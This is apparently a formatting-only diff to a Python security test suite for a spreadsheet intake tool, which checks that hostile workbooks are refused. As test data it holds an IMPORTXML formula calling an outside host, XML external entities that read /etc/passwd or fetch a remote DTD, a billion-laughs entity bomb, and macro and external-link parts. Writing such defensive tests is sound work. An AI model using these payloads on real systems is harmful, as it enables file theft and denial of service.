@@ -142,8 +142,12 @@ for value, name in [
     ('=IMPORTXML("http://198.51.100.7","//a")', "an-import"),
 ]:  # fmt: skip
     attack(f"{name}-in-a-workbook", "typed-cells", a_cell("Docket number", value, "a formula: paste the value"))
-    attack(f"{name}-in-a-table", "typed-cells", a_table(table(**{"Docket number": value}), "a formula: paste the value"))
-attack("an-array-formula", "typed-cells", a_cell("First name", ArrayFormula(place("First name"), "=C2:C9"), "a formula"))
+    attack(
+        f"{name}-in-a-table", "typed-cells", a_table(table(**{"Docket number": value}), "a formula: paste the value")
+    )
+attack(
+    "an-array-formula", "typed-cells", a_cell("First name", ArrayFormula(place("First name"), "=C2:C9"), "a formula")
+)
 attack("an-error-for-a-name", "typed-cells", a_cell("First name", "#REF!", "an error of Excel's"))
 attack("a-logical-value-for-a-name", "typed-cells", a_cell("Last name", True, "a logical value"))
 attack("a-number-that-lost-its-zero", "typed-cells", a_cell("Zip", 2134, "drops the first zero"))
@@ -189,7 +193,9 @@ def _reported(text: str) -> tuple[str, Callable[[Path], None]]:
         for separator in ",;\t":
             for row in list(csv.reader(io.StringIO(data), delimiter=separator))[1:]:
                 cells = [cell.lstrip(" \t\r\n\u200b'\"") if cell[:1] != "'" else "" for cell in row]
-                assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠"))], row
+                assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠"))], (
+                    row
+                )
 
     return "csv-cells", run
 
@@ -272,7 +278,11 @@ attack("a-part-that-lies-about-its-size", "archive", _lies)
 attack("macros", "archive", _archive("with macros", **{"xl/vbaProject.bin": b"x"}))
 attack("macros-in-a-folder-of-another-name", "archive", _archive("with macros", **{"xl/other/vbaProject.bin": b"x"}))
 attack("macros-of-excel-4", "archive", _archive("with macros", **{"xl/macrosheets/sheet1.xml": b"<x/>"}))
-attack("links-to-other-workbooks", "archive", _archive("links to others", **{"xl/externalLinks/externalLink1.xml": b"<x/>"}))
+attack(
+    "links-to-other-workbooks",
+    "archive",
+    _archive("links to others", **{"xl/externalLinks/externalLink1.xml": b"<x/>"}),
+)
 
 
 def _macros_by_name(folder: Path) -> None:
@@ -299,10 +309,16 @@ LAUGHS = f"<!DOCTYPE x [<!ENTITY a 'ha'>{LAUGHS}]>"
 BOOK = "xl/workbook.xml"
 attack("a-billion-laughs", "declarations", declared(SHEET1, LAUGHS))
 attack("a-billion-laughs-in-the-workbook", "declarations", declared(BOOK, LAUGHS))
-attack("a-file-of-this-machine-as-an-entity", "declarations", declared(SHEET1, "<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>"))
+attack(
+    "a-file-of-this-machine-as-an-entity",
+    "declarations",
+    declared(SHEET1, "<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>"),
+)
 attack("a-file-of-another-machine-as-an-entity", "declarations", declared(
     BOOK, "<!DOCTYPE x [<!ENTITY a SYSTEM 'http://198.51.100.7/x'>]>"))  # fmt: skip
-attack("a-declaration-from-elsewhere", "declarations", declared(SHEET1, "<!DOCTYPE x SYSTEM 'http://198.51.100.7/x.dtd'>"))
+attack(
+    "a-declaration-from-elsewhere", "declarations", declared(SHEET1, "<!DOCTYPE x SYSTEM 'http://198.51.100.7/x.dtd'>")
+)
 attack("a-parameter-entity", "declarations", declared(
     "xl/_rels/workbook.xml.rels", "<!DOCTYPE x [<!ENTITY % a SYSTEM 'file:///etc/passwd'> %a;]>"))  # fmt: skip
 attack("a-declaration-in-utf-16", "declarations", declared(SHEET1, LAUGHS, "utf-16"))
@@ -335,7 +351,9 @@ def _said_small(folder: Path) -> None:
 
 
 def _far_row(folder: Path) -> None:
-    xml = plain_parts()[SHEET1].replace(b"</sheetData>", b'<row r="1100000"><c r="A1100000" t="str"><v>x</v></c></row></sheetData>')
+    xml = plain_parts()[SHEET1].replace(
+        b"</sheetData>", b'<row r="1100000"><c r="A1100000" t="str"><v>x</v></c></row></sheetData>'
+    )
     refused(packed(folder / "c.xlsx", **{SHEET1: xml}), "rows: divide it")
 
 
@@ -495,7 +513,11 @@ DEFENCES: dict[str, Callable[[pytest.MonkeyPatch], None]] = {
     "sizes": without(limits, "SHEET_BYTES", HUGE),
     "parts": without(limits, "SHEET_PARTS", HUGE),
     "archive": without(intake_cells, "_check_archive", lambda source: None),
-    "source": without(intake_read, "read_source", lambda source: intake_rows.CaseloadReader(source, intake_cells.xlsx_tables(source)).read()),
+    "source": without(
+        intake_read,
+        "read_source",
+        lambda source: intake_rows.CaseloadReader(source, intake_cells.xlsx_tables(source)).read(),
+    ),
     "declarations": _without_declarations,
     "hidden-sheets": without(intake_cells, "_is_hidden", lambda sheet: False),
     "said-size": without(ReadOnlyWorksheet, "reset_dimensions", lambda sheet: None),
